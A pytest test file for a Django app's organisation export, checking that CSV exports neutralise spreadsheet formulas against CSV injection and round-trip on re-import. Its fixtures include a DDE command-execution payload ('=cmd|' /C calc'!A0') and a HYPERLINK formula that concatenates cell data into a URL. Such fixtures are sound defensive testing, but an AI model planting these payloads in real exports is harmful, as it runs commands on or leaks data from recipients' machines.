"""CSV exports carry no live formula (OWASP CSV injection), and an exported file re-imports to the same values."""

from __future__ import annotations

import csv
import io

import pytest
from python_calamine import CalamineWorkbook

from xiezuo.core.models import Job
from xiezuo.core.services import create_record, delete_record
from xiezuo.core.tabular import neutralise, restore
from xiezuo.geo.models import Region
from xiezuo.partners.models import Organisation

pytestmark = pytest.mark.django_db

NOTES = {
    "防注入测试单位甲": '=HYPERLINK("http://x"&A2,"y")',
    "防注入测试单位乙": "=1+1",
    "防注入测试单位丙": "-5",
    "防注入测试单位丁": "@SUM(A1:A9)",
    "防注入测试单位戊": "+86 851 1234",
    "防注入测试单位己": "普通备注 不以公式开头 =1+1 在中间",
    # Chinese punctuation and symbols come back as written (an import once made them half-width: ，→ , ① → 1).
    "防注入测试单位庚": "黔货出山，黔菜进广；（第二批）：完成？是！①～㎡",
}
SHORT = {"防注入测试单位甲": "=cmd|' /C calc'!A0"}


def make_organisations(user):
    region = Region.objects.get(code="520521000000")
    return [create_record(Organisation, {"name": name, "kind": "enterprise", "region": region, "note": note,
                                         "short_name": SHORT.get(name, "")}, user)
            for name, note in NOTES.items()]


def export(client, fmt: str) -> bytes:
    response = client.get("/partners/organisation/export/", {"format": fmt, "q": "防注入测试单位"})
    assert response.status_code == 302
    job = Job.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    assert job.state == Job.State.SUCCEEDED, job.message
    return b"".join(client.get(f"/jobs/{job.pk}/download/result/").streaming_content)


def test_csv_export_neutralises_formulas_and_reimports_them(login, user):
    editor = user("bijie_dafang")
    client = login("bijie_dafang")
    originals = make_organisations(editor)
    content = export(client, "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    note_col, short_col = header.index("备注"), header.index("简称")
    notes = {r[0]: r[note_col] for r in body}
    assert len(notes) == len(NOTES)
    assert notes["防注入测试单位甲"] == "'" + NOTES["防注入测试单位甲"]
    assert notes["防注入测试单位乙"] == "'=1+1"
    assert notes["防注入测试单位丙"] == "'-5"
    assert notes["防注入测试单位丁"] == "'@SUM(A1:A9)"
    assert notes["防注入测试单位戊"] == "'+86 851 1234"
    assert notes["防注入测试单位己"] == NOTES["防注入测试单位己"], "text not starting with a trigger is untouched"
    assert notes["防注入测试单位庚"] == NOTES["防注入测试单位庚"]
    assert {r[0]: r[short_col] for r in body}["防注入测试单位甲"] == "'=cmd|' /C calc'!A0"
    # No cell of the file starts with a formula character.
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)

    # The same file imported back (after the records are gone) gives the same values.
    for obj in originals:
        delete_record(obj, editor)
    upload = io.BytesIO(content)
    upload.name = "导出再导入.csv"
    response = client.post("/partners/organisation/import/", {"file": upload})
    job = Job.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    assert job.state == Job.State.SUCCEEDED, (job.message, job.errors)
    again = {o.name: o for o in Organisation.objects.filter(name__startswith="防注入测试单位")}
    assert {name: o.note for name, o in again.items()} == NOTES
    assert again["防注入测试单位甲"].short_name == SHORT["防注入测试单位甲"]


def test_xlsx_export_keeps_text_as_text(login, user):
    make_organisations(user("bijie_dafang"))
    content = export(login("bijie_dafang"), "xlsx")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    col = rows[0].index("备注")
    notes = {r[0]: r[col] for r in rows[1:]}
    # Typed text cells: shown as written, never run, so no quote is added.
    assert notes["防注入测试单位乙"] == "=1+1" and notes["防注入测试单位丙"] == "-5"
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, "no formula element in the workbook"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'=already", "'", "plain", "", "一"])
def test_neutralise_then_restore_is_the_identity(value):
    assert restore(neutralise(value)) == value
    assert not str(neutralise(value)).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_and_dates_are_left_alone():
    import datetime as dt

    assert neutralise(-5) == -5 and neutralise(-1.5) == -1.5
    assert neutralise(dt.date(2021, 1, 1)) == dt.date(2021, 1, 1)
